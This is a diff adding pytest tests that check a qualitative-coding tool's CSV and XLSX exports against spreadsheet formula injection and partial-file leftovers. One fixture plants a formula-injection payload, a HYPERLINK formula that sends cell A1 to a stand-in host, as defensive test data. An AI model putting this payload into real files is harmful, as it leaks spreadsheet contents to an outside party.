@@ -146,3 +146,124 @@ def test_qdpx_export_holds_the_researchers_codings_as_their_own_user(coded_run: 
     human = read_codings(path, documents=texts, segments=run.segments, segment_ids=run.segment_ids, codebook=book)
     assert human.n_codings == len(mine) == 3 and not human.unmatched
     assert {c.user for c in human.spans} == {"researcher:codings.csv"}
+
+
+# --------------------------------------------------------------------------- spreadsheet cells
+
+FORMULA_NAME = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
+FORMULA_DEFINITION = "+1 when the respondent grows vegetables; -1 otherwise; @mentions count"
+FORMULA_CODE = f"""\
+  - id: formula
+    name: {FORMULA_NAME!r}
+    definition: {FORMULA_DEFINITION!r}
+    keywords: [shovel, greenhouse]
+    examples: ["=1+2", "'=already quoted"]
+"""
+
+
+@pytest.fixture(scope="module")
+def formula_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A run whose codebook text and one document id read as spreadsheet formulas."""
+    from conftest import write_planted_corpus
+    from topicbook.config import load_config
+    from topicbook.pipeline import run
+
+    root = tmp_path_factory.mktemp("formulas")
+    config = write_planted_corpus(root / "project")
+    interviews = config.parent / "interviews"
+    (interviews / "doc01.txt").rename(interviews / "@doc01.txt")  # document id "@doc01"
+    book = config.parent / "codebook.yaml"
+    book.write_text(book.read_text(encoding="utf-8") + FORMULA_CODE, encoding="utf-8")
+    config.write_text(config.read_text(encoding="utf-8").replace("  metadata: metadata.csv\n", "")
+                      + "  explorer: false\nevaluate:\n  stability_seeds: 0\n  coherence: [u_mass]\n", encoding="utf-8")
+    folder, _ = run(load_config(config), out_dir=root / "runs")
+    return folder
+
+
+SPREADSHEET_FORMULA = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_export_cells_never_start_a_formula_and_read_back_as_written(formula_run: Path) -> None:
+    result = CliRunner().invoke(main, ["-q", "export", str(formula_run), "--format", "csv"])
+    assert result.exit_code == 0, result.output
+    path = formula_run / "export" / f"{formula_run.name}.csv"
+    codings = path.with_name(f"{path.stem}_codings.csv")
+    for table in (path, codings):
+        with table.open(encoding="utf-8", newline="") as handle:
+            cells = [cell for row in csv.reader(handle) for cell in row]
+        assert not [c for c in cells if c.startswith(SPREADSHEET_FORMULA)], table.name
+    with path.open(encoding="utf-8", newline="") as handle:
+        row = next(r for r in csv.DictReader(handle) if r["id"] == "formula")
+    assert row["name"] == "'" + FORMULA_NAME and row["definition"] == "'" + FORMULA_DEFINITION
+    assert row["examples"] == "'=1+2; '=already quoted"  # one cell: only its start counts
+    book = read_export_codebook(path)  # topicbook's reader takes the apostrophe off again
+    code = book.codes[book.ids().index("formula")]
+    assert (code.name, code.definition, code.examples) == (FORMULA_NAME, FORMULA_DEFINITION, ("=1+2", "'=already quoted"))
+    with (formula_run / "segments.csv").open(encoding="utf-8") as fh:
+        segs = list(csv.DictReader(fh))
+    segments = [Segment(s["segment_id"], s["document"], s["speaker"], s["role"], ((int(s["start"]), int(s["end"])),), s["text"]) for s in segs]
+    human = read_codings(codings, documents={}, segments=segments, segment_ids=[s.id for s in segments], codebook=book)
+    assert "@doc01" in human.documents and not human.unmatched
+
+
+def test_xlsx_export_stores_formula_like_text_as_text(formula_run: Path) -> None:
+    import openpyxl
+
+    result = CliRunner().invoke(main, ["-q", "export", str(formula_run), "--format", "xlsx"])
+    assert result.exit_code == 0, result.output
+    path = formula_run / "export" / f"{formula_run.name}.xlsx"
+    workbook = openpyxl.load_workbook(path)
+    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+    assert cells and all(c.data_type == "s" for c in cells)  # no formula cell anywhere
+    risky = [c for c in cells if c.value.startswith(SPREADSHEET_FORMULA)]
+    assert {c.value for c in risky} >= {FORMULA_NAME, FORMULA_DEFINITION, "@doc01"}
+    assert all(c.quotePrefix for c in risky)  # shown and kept as text when edited
+    book = read_export_codebook(path)
+    assert book.codes[book.ids().index("formula")].name == FORMULA_NAME
+
+
+# --------------------------------------------------------------------------- refused and failed exports
+
+
+def _partials(folder: Path) -> list[str]:
+    return sorted(p.name for p in folder.rglob("*") if p.name.endswith(".partial"))
+
+
+def test_a_refused_csv_export_leaves_no_partial_file_and_no_half_export(formula_run: Path, tmp_path: Path) -> None:
+    out = tmp_path / "mine" / "book.csv"
+    out.parent.mkdir()
+    existing = out.with_name("book_codings.csv")
+    existing.write_text("mine\n", encoding="utf-8")  # only the second file of the export exists
+    result = CliRunner().invoke(main, ["export", str(formula_run), "--format", "csv", "--out", str(out)])
+    assert (result.exit_code, result.output) == (1, f"Error: {existing}: already exists. Use --force to replace it.\n")
+    assert sorted(p.name for p in out.parent.iterdir()) == ["book_codings.csv"]
+    assert existing.read_text(encoding="utf-8") == "mine\n"
+
+
+@pytest.mark.parametrize("fault", ["full disk", "bad input"])
+def test_a_failed_export_leaves_no_partial_file_and_the_old_export(formula_run: Path, tmp_path: Path,
+                                                                  monkeypatch: pytest.MonkeyPatch, fault: str) -> None:
+    import errno
+    import os
+
+    import topicbook.export as export
+    from topicbook.errors import InputError
+
+    out = tmp_path / "mine" / "book.qdc"
+    out.parent.mkdir()
+    out.write_text("the previous export\n", encoding="utf-8")
+
+    def half_written(codebook, path):  # type: ignore[no-untyped-def]
+        Path(path).write_text("<half", encoding="utf-8")
+        if fault == "full disk":
+            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+        raise InputError("codebook: something the writer refuses.")
+
+    monkeypatch.setattr(export, "write_qdc", half_written)
+    result = CliRunner().invoke(main, ["export", str(formula_run), "--format", "qdc", "--out", str(out), "--force"])
+    message = (f"Error: {out}: no space left on the device while writing the export. Free some space or use --out on another disk; nothing was written.\n"
+               if fault == "full disk" else "Error: codebook: something the writer refuses.\n")
+    assert (result.exit_code, result.output) == (1, message)
+    assert sorted(p.name for p in out.parent.iterdir()) == ["book.qdc"]
+    assert out.read_text(encoding="utf-8") == "the previous export\n"
+    assert _partials(formula_run) == []
